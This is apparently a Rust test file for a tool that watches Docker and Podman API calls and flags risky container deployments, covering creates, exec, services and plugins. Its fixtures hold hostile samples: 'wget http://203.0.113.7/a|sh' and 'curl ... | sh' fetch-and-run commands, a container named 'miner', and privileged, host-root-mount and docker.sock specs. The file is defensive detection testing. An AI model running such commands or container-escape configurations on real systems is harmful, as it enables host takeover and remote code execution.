use tw_model::{ContainerAction, DeployKind, Direction, Risk};
use tw_proto::{BodyEnd, HttpEventKind};

use super::{Conn, DAEMON, Driver};

const ID: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

fn created() -> String {
    format!("{{\"Id\":\"{ID}\",\"Warnings\":[]}}")
}

fn create(driver: &mut Driver, body: &str) {
    let line = "POST /v1.41/containers/create?name=miner";
    driver.call(Conn::docker(1), 0, line, body, 201, &created());
}

#[test]
fn create_start_stop_remove_by_id_name_and_prefix() {
    use ContainerAction::{Create, Remove, Start, Stop};
    let body = r#"{"Image":"alpine","Cmd":["sh","-c","wget http://203.0.113.7/a|sh"],
        "HostConfig":{"Binds":["/:/host"],"Privileged":true,"PidMode":"host","NetworkMode":"host",
        "CapAdd":["SYS_ADMIN"],"RestartPolicy":{"Name":"always"}}}"#;
    let mut driver = Driver::new();
    create(&mut driver, body);
    let conn = Conn::docker(2);
    driver.call(conn, 0, &format!("POST /containers/{ID}/start"), "", 204, "");
    driver.call(conn, 1, "POST /v1.41/containers/miner/stop", "", 304, "");
    driver.call(conn, 2, "POST /containers/aaaaaaaaaaaa/restart", "", 204, "");
    driver.call(conn, 3, "DELETE /containers/aaaaa?force=1", "", 204, "");
    driver.call(conn, 4, "POST /containers/miner/start", "", 204, "");
    let events = driver.containers();
    let actions: Vec<ContainerAction> = events.iter().map(|event| event.action).collect();
    assert_eq!(actions, [Create, Start, Stop, Start, Remove, Start]);
    for event in &events[..5] {
        assert_eq!(event.container_id.as_deref(), Some(ID), "{:?}", event.action);
        assert_eq!(event.name.as_deref(), Some("miner"));
        assert_eq!(event.image.as_deref(), Some("alpine"));
        assert_eq!(event.urls, ["http://203.0.113.7/a"]);
        assert_eq!(event.binds, ["/:/host"]);
        assert!(event.privileged);
    }
    assert_eq!(events[5].image, None, "the container was removed");
    assert_eq!(events[5].container_id.as_deref(), Some("miner"));
    let risks = [
        Risk::Privileged,
        Risk::HostRootMount,
        Risk::HostPid,
        Risk::HostNetwork,
        Risk::DangerousCapability,
        Risk::RestartAlways,
        Risk::RootUser,
    ];
    assert_eq!(events[0].risks, risks);
}

#[test]
fn risks() {
    use Risk::{
        DangerousCapability, Device, DockerSocket, HostIpc, HostPathMount, HostPid, HostRootMount,
        HostUserns, NoApparmor, NoSeccomp, Privileged,
    };
    let table: &[(&str, &[Risk])] = &[
        (
            r#""HostConfig":{"Binds":["/var/run/docker.sock:/s:ro"]}"#,
            &[HostPathMount, DockerSocket],
        ),
        (
            r#""HostConfig":{"Mounts":[{"Type":"bind","Source":"/","Target":"/mnt"}]}"#,
            &[HostRootMount],
        ),
        (r#""HostConfig":{"Mounts":[{"Type":"volume","Source":"v","Target":"/mnt"}]}"#, &[]),
        (
            r#""HostConfig":{"Mounts":[{"Type":"volume","Target":"/m","VolumeOptions":{
                "DriverConfig":{"Name":"local","Options":{"device":"/","o":"bind"}}}}]}"#,
            &[HostRootMount],
        ),
        (r#""HostConfig":{"IpcMode":"host","UsernsMode":"host"}"#, &[HostIpc, HostUserns]),
        (r#""HostConfig":{"CapAdd":["cap_net_admin"]}"#, &[DangerousCapability]),
        (r#""HostConfig":{"Devices":[{"PathOnHost":"/dev/sda"}]}"#, &[Device]),
        (r#""HostConfig":{"SecurityOpt":["seccomp=unconfined"]}"#, &[NoSeccomp]),
        (r#""HostConfig":{"SecurityOpt":["apparmor:unconfined"]}"#, &[NoApparmor]),
        (r#""HostConfig":{"SecurityOpt":["label=disable"]}"#, &[NoApparmor]),
        (
            r#""HostConfig":{"Privileged":true},"HostConfig":{"PidMode":"host"}"#,
            &[Privileged, HostPid],
        ),
        (r#""hostconfig":{"privileged":true}"#, &[Privileged]),
        (r#""HostConfig":{"PidMode":"container:x","NetworkMode":"bridge"}"#, &[]),
        (r#""HostConfig":{}"#, &[]),
        (r#""HostConfig":[1,2]"#, &[]),
    ];
    for (fields, risks) in table {
        let mut driver = Driver::new();
        create(&mut driver, &format!("{{\"Image\":\"a\",\"User\":\"1000\",{fields}}}"));
        assert_eq!(&driver.containers()[0].risks, risks, "{fields}");
    }
}

#[test]
fn libpod_specification() {
    use Risk::{
        DangerousCapability, HostNetwork, HostPathMount, HostPid, NoApparmor, NoSeccomp,
        Privileged, RestartAlways,
    };
    let body = r#"{"image":"alpine","name":"p","command":["sh"],"entrypoint":["/e"],"user":"1:1",
        "env":{"URL":"http://203.0.113.8/x"},"privileged":true,"cap_add":["ALL"],
        "mounts":[{"type":"bind","source":"/etc","destination":"/e"}],
        "pidns":{"nsmode":"host"},"netns":{"nsmode":"host"},"selinux_opts":["disable"],
        "seccomp_profile_path":"unconfined","restart_policy":"always"}"#;
    let mut driver = Driver::new();
    let line = "POST /v4.0.0/libpod/containers/create";
    driver.call(Conn::docker(1), 0, line, body, 201, &created());
    let event = driver.containers().remove(0);
    assert_eq!(event.name.as_deref(), Some("p"));
    assert_eq!(event.command, ["/e", "sh"]);
    assert_eq!(event.urls, ["http://203.0.113.8/x"]);
    assert_eq!(event.binds, ["/etc:/e"]);
    let modes = (event.pid_mode.as_deref(), event.network_mode.as_deref());
    assert_eq!(modes, (Some("host"), Some("host")));
    let risks = [
        Privileged,
        HostPathMount,
        HostPid,
        HostNetwork,
        DangerousCapability,
        NoSeccomp,
        NoApparmor,
        RestartAlways,
    ];
    assert_eq!(event.risks, risks);
}

#[test]
fn refused_actions_are_taken_back() {
    let mut driver = Driver::new();
    driver.call(Conn::docker(1), 0, "POST /containers/x/start", "", 404, "{\"message\":\"no\"}");
    assert_eq!(driver.containers()[0].status, Some(404), "announced, then refused");
    let mut driver = Driver::new();
    driver.call(Conn::docker(1), 0, "POST /containers/create", r#"{"Image":"a"}"#, 400, "{}");
    driver.call(Conn::docker(1), 1, "POST /containers/x/start", "", 204, "");
    assert_eq!(driver.containers()[0].status, Some(400));
    assert_eq!(driver.containers()[1].image, None, "nothing was created");
}

#[test]
fn create_whose_answer_was_not_captured_is_known_by_name() {
    let mut driver = Driver::new();
    let conn = Conn::docker(1);
    driver.request(conn, 0, "POST /containers/create?name=n", &[], br#"{"Image":"a"}"#);
    driver.close(conn);
    driver.request(Conn::docker(2), 0, "POST /containers/n/start", &[], b"");
    driver.close(Conn::docker(2));
    let events = driver.containers();
    assert_eq!((events[1].image.as_deref(), events[1].status), (Some("a"), None));
}

#[test]
fn exec_is_one_event() {
    let mut driver = Driver::new();
    create(&mut driver, r#"{"Image":"alpine"}"#);
    let conn = Conn::docker(2);
    let exec =
        r#"{"Cmd":["sh","-c","curl http://203.0.113.7/x | sh"],"Privileged":true,"User":"root"}"#;
    driver.call(conn, 0, "POST /containers/miner/exec", exec, 201, "{\"Id\":\"e1\"}");
    let before = driver.containers()[1].clone();
    driver.request(conn, 1, "POST /exec/e1/start", &[], b"{\"Detach\":false}");
    driver.answer_head(conn, 1, 101, &[("upgrade", "tcp")]);
    driver.event(conn, 1, HttpEventKind::ResponseEnd(BodyEnd::Complete));
    let bytes = HttpEventKind::Upstream { direction: Direction::ToOpener, bytes: b"x" };
    driver.event(conn, 1, bytes);
    driver.close(conn);
    let events = driver.containers();
    assert_eq!(events.len(), 2);
    let exec = &events[1];
    assert_eq!(exec.action, ContainerAction::Exec);
    assert_eq!(exec.container_id.as_deref(), Some(ID));
    assert_eq!(exec.image.as_deref(), Some("alpine"));
    assert_eq!(exec.command.len(), 3);
    assert_eq!(exec.urls, ["http://203.0.113.7/x"]);
    assert_eq!(exec.risks, [Risk::Privileged]);
    assert_eq!((exec.call, exec.status), (before.call, Some(101)));
    let closed = i64::try_from(driver.frame).expect("small") * 1_000_000;
    assert_eq!(exec.ended.as_nanos(), closed, "as long as it runs");
}

#[test]
fn exec_start_alone_still_tells() {
    let mut driver = Driver::new();
    driver.call(Conn::docker(1), 0, "POST /exec/e9/start", "{}", 200, "");
    assert_eq!(driver.containers()[0].action, ContainerAction::Exec);
}

#[test]
fn copy_tells_path_and_bytes() {
    let mut driver = Driver::new();
    let conn = Conn::docker(1);
    driver.request_head(conn, 0, "PUT /containers/web/archive?path=/usr/local/bin", &[]);
    driver.event(conn, 0, HttpEventKind::RequestBody(&[0; 700]));
    driver.event(conn, 0, HttpEventKind::RequestGap(300));
    driver.event(conn, 0, HttpEventKind::RequestEnd(BodyEnd::Complete));
    driver.answer(conn, 0, 200, DAEMON, "");
    let event = driver.containers().remove(0);
    assert_eq!(event.path.as_deref(), Some("/usr/local/bin"));
    assert_eq!(event.copied_bytes, Some(1_000));
    assert_eq!(event.action, ContainerAction::Copy);
}

#[test]
fn wait_tells_when_the_container_ends() {
    let mut driver = Driver::new();
    let conn = Conn::docker(1);
    driver.request(conn, 0, "POST /containers/c/wait?condition=next-exit", &[], b"");
    driver.answer_head(conn, 0, 200, DAEMON);
    assert!(driver.containers().is_empty());
    driver.answer_body(conn, 0, "{\"StatusCode\":0}");
    driver.event(conn, 0, HttpEventKind::ResponseEnd(BodyEnd::Complete));
    let event = driver.containers().remove(0);
    assert_eq!(event.action, ContainerAction::Stop);
    assert!(event.started.as_nanos() > 3_000_000, "when it ended, not when it was asked for");
}

#[test]
fn a_caller_that_waits_no_longer_stops_nothing() {
    let mut driver = Driver::new();
    let answer = r#"{"Error":{"Message":"context canceled"},"StatusCode":-1}"#;
    driver.call(Conn::docker(1), 0, "POST /containers/c/wait", "", 200, answer);
    assert!(driver.containers().is_empty());
}

#[test]
fn a_signal_that_ends_nothing_is_no_stop() {
    let mut driver = Driver::new();
    driver.call(Conn::docker(1), 0, "POST /containers/c/kill?signal=SIGHUP", "", 204, "");
    driver.call(Conn::docker(1), 1, "POST /containers/c/kill?signal=SIGKILL", "", 204, "");
    driver.call(Conn::docker(1), 2, "POST /containers/c/pause", "", 204, "");
    assert_eq!(driver.containers().len(), 1);
    assert_eq!(driver.calls().len(), 3);
}

#[test]
fn rename_is_followed() {
    let mut driver = Driver::new();
    create(&mut driver, r#"{"Image":"alpine"}"#);
    driver.call(Conn::docker(2), 0, "POST /containers/miner/rename?name=nginx", "", 204, "");
    driver.call(Conn::docker(2), 1, "POST /containers/nginx/start", "", 204, "");
    assert_eq!(driver.containers()[1].image.as_deref(), Some("alpine"));
}

#[test]
fn hostile_json_hides_nothing() {
    let deep = format!(
        "{{\"x\":{}{},\"Image\":\"a\",\"HostConfig\":{{\"Privileged\":true}}}}",
        "[".repeat(50_000),
        "]".repeat(50_000)
    );
    let doubled = r#"{"Image":"harmless","HostConfig":{"Privileged":true},
        "hostConfig":{"PidMode":""},"IMAGE":"a"}"#;
    let cut = r#"{"Image":"a","HostConfig":{"Privileged":true,"Binds":["/:/h","/e"#;
    for body in [deep.as_str(), doubled, cut] {
        let mut driver = Driver::new();
        create(&mut driver, body);
        let event = driver.containers().remove(0);
        assert_eq!(event.image.as_deref(), Some("a"));
        assert!(event.privileged);
    }
    let mut driver = Driver::new();
    create(&mut driver, cut);
    assert_eq!(driver.containers()[0].binds, ["/:/h"]);
    assert_eq!(driver.api.counters().json_malformed, 1);
}

#[test]
fn huge_json_is_read_up_to_its_limit() {
    let huge = format!("{{\"Image\":\"a\",\"Labels\":{{\"x\":\"{}\"}}}}", "y".repeat(3_000_000));
    let mut driver = Driver::new();
    create(&mut driver, &huge);
    assert_eq!(driver.containers()[0].image.as_deref(), Some("a"));
    assert_eq!(driver.api.counters().json_malformed, 1);
}

/// Streams of calls that hand their connection over, with 101 and with 200.
#[test]
fn a_stream_is_counted_whatever_it_says() {
    use tw_model::{StreamFraming, StreamUse};
    let request = b"GET /v1.41/info HTTP/1.1\r\nHost: phantom\r\n\r\n";
    let frames = b"\x01\0\0\0\0\0\0\x03out\x02\0\0\0\0\0\0\x02no";
    let raw = [("content-type", "application/vnd.docker.raw-stream")];
    for status in [101, 200] {
        let mut driver = Driver::new();
        let conn = Conn::docker(1);
        let line = "POST /v1.41/containers/box/exec";
        let made = format!("{{\"Id\":\"{ID}\"}}");
        driver.call(conn, 0, line, r#"{"Cmd":["sh"]}"#, 201, &made);
        let stream = Conn::docker(2);
        driver.request(stream, 0, &format!("POST /v1.41/exec/{ID}/start"), &[], b"{}");
        driver.answer(stream, 0, status, &[&raw[..], DAEMON].concat(), "");
        driver.event(stream, 0, HttpEventKind::Upgraded(tw_proto::Upgrade::Tcp));
        let mut say = |direction, bytes| {
            driver.event(stream, 0, HttpEventKind::Upstream { direction, bytes });
        };
        say(Direction::ToResponder, &request[..]);
        say(Direction::ToOpener, &frames[..]);
        driver.close(stream);
        let (output_bytes, error_bytes) = (3, 2);
        let framing = StreamFraming::Frames;
        let seen = StreamUse { framing, input_bytes: 43, output_bytes, error_bytes, said: None };
        let exec = driver.containers().into_iter().rfind(|e| e.stream.is_some());
        assert_eq!(exec.and_then(|e| e.stream), Some(seen.clone()), "{status}");
        let calls = driver.calls();
        assert_eq!(calls.len(), 2, "what was said is no call: {calls:#?}");
        assert_eq!(calls[1].stream, Some(seen), "{status}");
    }
}

#[test]
fn services_are_created_updated_and_removed() {
    use ContainerAction::{Create, Remove, Start};
    let spec = |mounts: &str| {
        format!(
            r#"{{"Name":"web","TaskTemplate":{{"ContainerSpec":{{"Image":"alpine","Args":["sh","-c",
            "wget http://203.0.113.7/a"],"Env":["PASSWORD=hunter2"],"Mounts":[{mounts}],
            "CapabilityAdd":["CAP_SYS_ADMIN"],"Privileges":{{"Seccomp":{{"Mode":"unconfined"}}}}}},
            "Networks":[{{"Target":"net1"}}]}}}}"#
        )
    };
    let root = r#"{"Type":"bind","Source":"/","Target":"/host"}"#;
    let socket = r#"{"Type":"bind","Source":"/var/run/docker.sock","Target":"/s"}"#;
    let mut driver = Driver::new();
    let conn = Conn::docker(1);
    let network = r#"{"Name":"host","Id":"net1","Driver":"host"}"#;
    driver.call(conn, 0, "GET /v1.41/networks/host", "", 200, network);
    driver.call(conn, 1, "POST /v1.41/services/create", &spec(root), 201, r#"{"ID":"sid25"}"#);
    driver.call(conn, 2, "POST /v1.41/services/sid25/update?version=1", &spec(socket), 200, "{}");
    driver.call(conn, 3, "DELETE /v1.41/services/web", "", 200, "");
    driver.call(conn, 4, "GET /v1.41/services/web", "", 200, "{}");
    driver.call(conn, 5, "POST /v1.41/services/create", &spec(root), 409, "{}");
    let events = driver.containers();
    let taken = events.iter().filter(|event| !event.is_refused());
    let actions: Vec<ContainerAction> = taken.map(|event| event.action).collect();
    assert_eq!(actions, [Create, Start, Remove], "a refused one is none");
    assert!(events.iter().all(|event| event.kind == DeployKind::Service));
    let created = &events[0];
    assert_eq!(created.container_id.as_deref(), Some("sid25"));
    assert_eq!(created.name.as_deref(), Some("web"));
    assert_eq!(created.urls, ["http://203.0.113.7/a"]);
    assert_eq!(created.network_mode.as_deref(), Some("host"), "by the id that the daemon told");
    let risks = [
        Risk::HostRootMount,
        Risk::HostNetwork,
        Risk::DangerousCapability,
        Risk::NoSeccomp,
        Risk::RootUser,
    ];
    assert_eq!(created.risks, risks);
    assert!(events[1].risks.contains(&Risk::DockerSocket));
    assert_eq!(events[2].image.as_deref(), Some("alpine"), "it repeats what was created");
    assert!(!format!("{events:?}").contains("hunter2"));
}

#[test]
fn plugins_are_pulled_created_and_enabled_with_what_they_are_granted() {
    use ContainerAction::{Create, Remove, Start, Stop};
    let granted = r#"[{"Name":"network","Value":["host"]},{"Name":"host pid namespace","Value":["true"]},
        {"Name":"mount","Value":["/"]},{"Name":"mount","Value":["/var/run/docker.sock"]},
        {"Name":"allow-all-devices","Value":["true"]},{"Name":"capabilities","Value":["CAP_SYS_ADMIN"]},
        {"Name":"unheard of","Value":[7,null]},{}]"#;
    let mut driver = Driver::new();
    let conn = Conn::docker(1);
    let pull = "POST /v1.41/plugins/pull?remote=reg.example%3A5000%2Fa%2Fb%3A1&name=";
    driver.call(conn, 0, pull, granted, 200, "{\"status\":\"Download complete\"}\n");
    driver.call(
        conn,
        1,
        "POST /v1.41/plugins/reg.example:5000/a/b:1/enable?timeout=0",
        "",
        200,
        "",
    );
    driver.call(conn, 2, "POST /v1.41/plugins/reg.example:5000/a/b:1/disable", "", 200, "");
    driver.call(conn, 3, "DELETE /v1.41/plugins/reg.example:5000/a/b:1", "", 200, "");
    let failed = "{\"status\":\"Pulling\"}\n{\"errorDetail\":{},\"error\":\"denied\"}\n";
    driver.call(conn, 4, "POST /v1.41/plugins/pull?remote=x/y", granted, 200, failed);
    let events = driver.containers();
    let actions: Vec<ContainerAction> = events.iter().map(|event| event.action).collect();
    assert_eq!(actions, [Create, Start, Stop, Remove, Create]);
    assert!(events[4].is_refused(), "it failed while it was pulled");
    let risks = [
        Risk::HostRootMount,
        Risk::HostPathMount,
        Risk::DockerSocket,
        Risk::HostPid,
        Risk::HostNetwork,
        Risk::DangerousCapability,
        Risk::Device,
        Risk::RootUser,
    ];
    for event in &events[..4] {
        assert_eq!(event.kind, DeployKind::Plugin);
        assert_eq!(event.name.as_deref(), Some("reg.example:5000/a/b:1"), "{:?}", event.action);
        assert_eq!(event.risks, risks, "{:?}", event.action);
    }
    assert_eq!(events[0].image.as_deref(), Some("reg.example:5000/a/b:1"));
}

#[test]
fn an_uploaded_plugin_says_itself_what_it_asks_for() {
    let config = r#"{"entrypoint":["/p"],"network":{"type":"host"},"ipchost":true,"pidhost":true,
        "mounts":[{"source":"/","destination":"/h","type":"bind"}],
        "linux":{"capabilities":["CAP_SYS_ADMIN"],"allowAllDevices":true}}"#;
    let archive = super::tar(&[("rootfs/p", "\x7fELF"), ("config.json", config)]);
    let mut driver = Driver::new();
    let conn = Conn::docker(1);
    let line = "POST /v1.41/plugins/create?name=ops/local";
    driver.request(conn, 0, line, &[("content-type", "application/x-tar")], &archive);
    driver.answer(conn, 0, 204, DAEMON, "");
    let event = driver.containers().remove(0);
    assert_eq!(event.name.as_deref(), Some("ops/local:latest"));
    assert_eq!(event.command, ["/p"]);
    let risks = [
        Risk::HostRootMount,
        Risk::HostPid,
        Risk::HostNetwork,
        Risk::HostIpc,
        Risk::DangerousCapability,
        Risk::Device,
        Risk::RootUser,
    ];
    assert_eq!(event.risks, risks);
    for cut in (0..archive.len()).step_by(97) {
        let mut driver = Driver::new();
        driver.request(conn, 0, line, &[], &archive[..cut]);
        driver.answer(conn, 0, 204, DAEMON, "");
        assert_eq!(driver.containers().len(), 1, "cut at {cut}");
    }
}
